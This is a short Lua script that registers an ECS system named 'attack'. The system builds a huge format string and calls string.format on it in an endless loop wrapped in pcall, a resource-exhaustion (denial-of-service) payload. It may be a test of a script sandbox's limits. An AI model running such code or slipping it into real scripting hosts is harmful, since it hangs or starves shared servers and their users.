local ecs = require "ecs"
ecs.system "attack" { run = function(ctx)
  local p, f = ("%%"):rep(8000000), string.format
  while true do pcall(f, p) end
end }
